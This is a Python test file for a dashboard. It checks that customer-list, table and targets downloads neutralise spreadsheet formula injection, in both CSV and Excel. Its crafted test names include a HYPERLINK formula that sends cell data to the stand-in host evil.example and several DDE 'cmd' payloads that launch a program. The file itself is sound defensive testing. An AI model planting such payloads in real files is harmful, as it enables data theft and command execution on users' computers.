"""No file the dashboard hands out runs a formula when a spreadsheet opens it (issue 13).

Crafted customer names are put into a copy of the test warehouse and taken out through
every download path that carries them: the customer lists (CSV and Excel, masked and
not), the tables' CSV, the targets file. A CSV cell is safe when a spreadsheet reads it
as text: it does not start with a formula character; an Excel cell is safe when it is
stored as a string, not as a formula.
"""

import ast
import csv
import io
from datetime import date
from pathlib import Path

import openpyxl
import polars as pl
import pytest

from dashboard.charts import paged_list
from dashboard.charts.spreadsheet_cells import csv_bytes, formula_safe
from dashboard.review.targets_io import csv_bytes as targets_csv
from tests.dashboard.charts.test_paged_list import ANALYST, EXECUTIVE, FILTERS, customer_list, view_for
from tests.queries.test_marts import execute, warehouse_copy

PROJECT = Path(__file__).resolve().parents[3]
CRAFTED = (
    '=HYPERLINK("http://evil.example/?d="&B2,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    " =2+2",
    "＝1+1",
)
RUNS_IN_A_SPREADSHEET = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def is_safe_csv_cell(cell: str) -> bool:
    return not cell.lstrip(" ").startswith(RUNS_IN_A_SPREADSHEET) or cell.strip(" ").lstrip("+-")[:1].isdigit()


def csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("name", CRAFTED)
def test_a_crafted_cell_is_written_as_text(name):
    (row,) = csv_cells(csv_bytes(pl.DataFrame({"full_name": [name]})))[1:]
    assert row == ["'" + name]


@pytest.mark.parametrize("value", ["Nguyễn Văn An", "+84912345567", "-5", "1.234,5", "0912 345 567", "", "A-1", "a=b"])
def test_ordinary_text_and_plain_numbers_stay_as_they_are(value):
    (row,) = csv_cells(csv_bytes(pl.DataFrame({"value": [value]})))[1:]
    assert row == [value]


def test_number_columns_and_nulls_are_untouched():
    frame = pl.DataFrame({"debt": [-66401.0, None], "name": [None, "=1"]})
    assert formula_safe(frame).to_dict(as_series=False) == {"debt": [-66401.0, None], "name": [None, "'=1"]}


@pytest.fixture()
def crafted_warehouse(duck_url, tmp_path, monkeypatch):
    """The test warehouse with one crafted name per enterprise customer among the first ones listed."""
    url = warehouse_copy(duck_url, tmp_path)
    statements = [
        f"update customers set full_name = '{name.replace(chr(39), chr(39) * 2)}' where customer_id = ("
        f"select customer_id from customers where segment = 'enterprise' order by customer_id offset {index} limit 1)"
        for index, name in enumerate(CRAFTED)
    ]
    execute(url, *statements)
    monkeypatch.setenv("WAREHOUSE_URL", url)
    monkeypatch.setenv("CRM_VAR_DIR", str(tmp_path))
    return url


@pytest.mark.parametrize("scope", [EXECUTIVE, ANALYST], ids=["unmasked", "masked"])
def test_list_downloads_never_carry_a_formula(crafted_warehouse, scope):
    query = customer_list(FILTERS, scope)
    view = view_for(scope)
    rows = csv_cells(paged_list.export_bytes(query, view, "csv", file_stem="list"))
    names = [row[rows[0].index("full_name")] for row in rows[1:]]
    assert sum(name.startswith("'") for name in names) == len(CRAFTED)
    assert all(is_safe_csv_cell(cell) for row in rows for cell in row)

    sheet = openpyxl.load_workbook(io.BytesIO(paged_list.export_bytes(query, view, "xlsx", file_stem="list"))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    if scope is EXECUTIVE:  # the real names, stored as text (a CR is kept escaped as _x000D_ in the XML)
        stored = {cell.value for cell in cells if cell.data_type == "s"}
        assert {name.replace("\r", "_x000D_") for name in CRAFTED} <= stored


def test_the_targets_file_is_formula_safe():
    targets = pl.DataFrame(
        {
            "measure": ["=1+1"],
            "target_month": [date(2026, 1, 1)],
            "province_code": ["01"],
            "target_value": [-0.5],
        }
    )
    (row,) = csv_cells(targets_csv(targets))[1:]
    assert row == ["'=1+1", "2026-01", "01", "-0.5"]


def test_every_csv_the_dashboard_writes_goes_through_the_safe_writer():
    """A new download written with Polars' own write_csv would skip the neutralising."""
    writers = []
    for path in sorted((PROJECT / "dashboard").rglob("*.py")) + sorted((PROJECT / "pages").rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.Attribute) and node.attr in ("write_csv", "to_csv"):
                writers.append(path.name)
    assert writers == ["spreadsheet_cells.py"]
